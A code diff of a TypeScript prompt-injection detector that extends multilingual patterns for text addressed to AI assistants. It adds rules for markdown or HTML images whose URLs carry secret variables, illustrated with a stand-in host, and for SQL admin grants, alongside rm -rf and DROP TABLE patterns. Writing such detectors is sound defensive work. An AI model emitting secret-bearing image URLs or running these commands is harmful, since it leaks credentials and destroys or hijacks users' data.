@@ -316,9 +316,21 @@ export const ADDRESSEE = gated(
     .withRare(
       [
         String.raw`\b(?:narz\u0119dzi\w*|herramientas?|ferramentas?|outils?|strument[oi]|werkzeug\w*|skrypt\w*)\s*,?\s+(?:kt\u00f3re|kt\u00f3ry|kt\u00f3ra|que|qui|che|das|der|die|welche[sr]?|dat)\b`,
-        String.raw`(?<![\w-]-)\b(?:assistent(?:en)?|asystent(?:a|owi|\u00f3w|y)?)\b`,
+        // (not a setup wizard: "asistente de instalación", "assistente de configuração")
+        String.raw`(?<![\w-]-)\b(?:assistent[ei]?|assistenten|asistentes?|asystent(?:a|owi|\u00f3w|y)?)\b(?!\s+d[eia]\s+(?:instal|configura|install))`,
       ],
-      ['narz', 'herramient', 'ferrament', 'outil', 'strument', 'werkzeug', 'skrypt', 'assistent', 'asystent'],
+      [
+        'narz',
+        'herramient',
+        'ferrament',
+        'outil',
+        'strument',
+        'werkzeug',
+        'skrypt',
+        'assistent',
+        'asistent',
+        'asystent',
+      ],
     ),
   new RegExp(
     String.raw`assistant|agent|bot|reviewer|client|contributor|system|helper|maintainer|worker|crawler|consumer|human|people|person|developer|whoever|helping|assisting|working for|acting for|behalf|the user|your user|tool|program|script|service|software|automat|autonom|agentic|machine|model|nota|aviso|mensaje|instruc|note|message|remarque|avis|hinweis|notiz|nachricht|anweisung`,
@@ -599,6 +611,14 @@ const EXEC_WORDS = new RegExp(
 );
 const RUN_WORDS = /\b(?:run|execute|source|invoke|launch)\b/;
 
+/**
+ * An image whose URL carries a secret named as a variable (`![status](https://x.example/b.png?k=API_TOKEN)`,
+ * `<img src="…?t=STRIPE_SECRET_KEY">`): a renderer fetches an image unasked, so whatever fills the stand-in
+ * leaves with the request. (A link is followed only when clicked: docs write `?api_key=YOUR_API_KEY` in
+ * links and commands all day.)
+ */
+const SECRET_IMAGE = String.raw`(?:!\[[^\]\n]{0,200}\]\(\s*|<img\b[^>\n]{0,200}\bsrc\s*=\s*["']?)https?://[^\s)"'<>]*[?&][\w-]+=[^\s)"'<>&]*?\b[A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:KEY|TOKEN|SECRET|PASSWORD)\b`;
+
 /** What the instruction wants done, by goal; each pattern names a harmful act, not a topic. */
 export interface Goal {
   goal: string;
@@ -653,9 +673,12 @@ export const GOALS: Goal[] = [
     // what to put there, or a capitalised stand-in the text says to replace.
     // (Said to the agent, any placeholder counts; in plain sight only one that describes local data:
     // `?key=<API_KEY>` is how docs for people write a URL template.)
-    plainSight: signal([
-      String.raw`https?://[^\s)"'<>]*[?&/=][^\s)"'<>]*(?:<[^>\n]{0,80}\s[^>\n]{0,80}>|\{[^}\n]{0,80}\s[^}\n]{0,80}\})`,
-    ]),
+    plainSight: signal(
+      [
+        String.raw`https?://[^\s)"'<>]*[?&/=][^\s)"'<>]*(?:<[^>\n]{0,80}\s[^>\n]{0,80}>|\{[^}\n]{0,80}\s[^}\n]{0,80}\})`,
+      ],
+      [SECRET_IMAGE],
+    ),
     re: signal(
       [
         String.raw`https?://[^\s)"'<>]*[?&/=][^\s)"'<>]*(?:<[^>\n]{3,80}>|\{[^}\n]{3,80}\})`,
@@ -665,6 +688,7 @@ export const GOALS: Goal[] = [
         String.raw`https?://[^\s)"'<>]*[?&][\w-]+=([A-Z][A-Z_]{2,})\b(?=[\s\S]*\b\1 (?:replaced (?:by|with)|being|=|is)\b)|\b([A-Z][A-Z_]{2,}) (?:replaced (?:by|with)|being)\b(?=[\s\S]*[?&][\w-]+=\2\b)`,
         // (the stand-in named in the order to fill it: "…?t=TOKEN, replacing TOKEN with the value of…")
         String.raw`https?://[^\s)"'<>]*[?&/=]([A-Z][A-Z_]{2,})\b(?=[\s\S]*\b(?:[Rr]eplac\w*|[Ss]ubstitut\w*|[Ff]ill\w* in|[Ss]wap\w*) \3 (?:with|by|for)\b)`,
+        SECRET_IMAGE,
       ],
     ),
   },
@@ -805,7 +829,7 @@ export const GOALS: Goal[] = [
     goal: 'goal-hijack',
     strong: false,
     gate: new RegExp(
-      String.raw`admin|root|superuser|service|backup|owner|maintainer|collaborator|close|delete|remove|wipe|drop|truncate|destroy|purge|rm -|licen|readme|history|proprietary|approve|merge|transfer|funds|payment|money|crypto|btc|eth|wallet|payout|bank|treasury|billing|iban|deposit|replace|link|url|download|endpoint|every|each|regardless|as the only`,
+      String.raw`grant all|admin|root|superuser|service|backup|owner|maintainer|collaborator|close|delete|remove|wipe|drop|truncate|destroy|purge|rm -|licen|readme|history|proprietary|approve|merge|transfer|funds|payment|money|crypto|btc|eth|wallet|payout|bank|treasury|billing|iban|deposit|replace|link|url|download|endpoint|every|each|regardless|as the only`,
     ),
     re: signal([
       String.raw`\b(?:add|create|make)\b(?:[^.\n]|\.(?=\S)){0,20}\b(?:admin|root|superuser|service|backup)\b(?:[^.\n]|\.(?=\S)){0,20}\b(?:user|account|login)\b`,
@@ -814,6 +838,8 @@ export const GOALS: Goal[] = [
       // (the things named first: "label every open issue tagged … and close all of them")
       String.raw`\b(?:every|all|each)\b(?:[^.\n]|\.(?=\S)){0,20}\b(?:issues?|pull requests?|PRs|branches|tables?|files|records|repos(?:itories)?|tags)\b(?:[^.\n]|\.(?=\S)){0,80}\b(?:close|delete|remove|wipe|drop|truncate)\b (?:all of )?(?:them|those|these|it)\b`,
       String.raw`\brm\s+-rf?\s+(?:~|/|\$HOME|\.\.?/?\s)|\bDROP (?:TABLE|DATABASE|SCHEMA)\b`,
+      // (an account made an administrator in SQL: `UPDATE users SET role='admin'`, `GRANT ALL … TO`, `ALTER USER … SUPERUSER`)
+      String.raw`\bupdate\s+\S*(?:users?|accounts?|members?|roles?)\S*\s+set\b[^;\n]{0,80}\b(?:role|is_admin|is_staff|is_superuser|admin|permissions?|privileges?)\b\s*=\s*(?:["'\x60]?(?:admin|administrator|owner|superuser|root)\b|true\b|1\b)|\bgrant\s+all(?:\s+privileges)?\b[^;\n]{0,80}\bto\b|\balter\s+(?:user|role)\b[^;\n]{0,60}\bsuperuser\b`,
       // (the repository's own history, tests, migrations, backups or data deleted: `rm -rf ../migrations .git/refs`)
       String.raw`\brm\s+-(?:rf|fr|r)\s+(?:[^\s;&|\x60]+\s+){0,4}?(?:[^\s;&|\x60]*/)?(?:\.git|tests?|migrations?|backups?|data)(?=[/\s"'\x60;]|$)`,
       String.raw`\brewrite\b(?:[^.\n]|\.(?=\S)){0,30}\b(?:LICENSE|licen[cs]e|README|history)\b|\bproprietary licen[cs]e\b`,
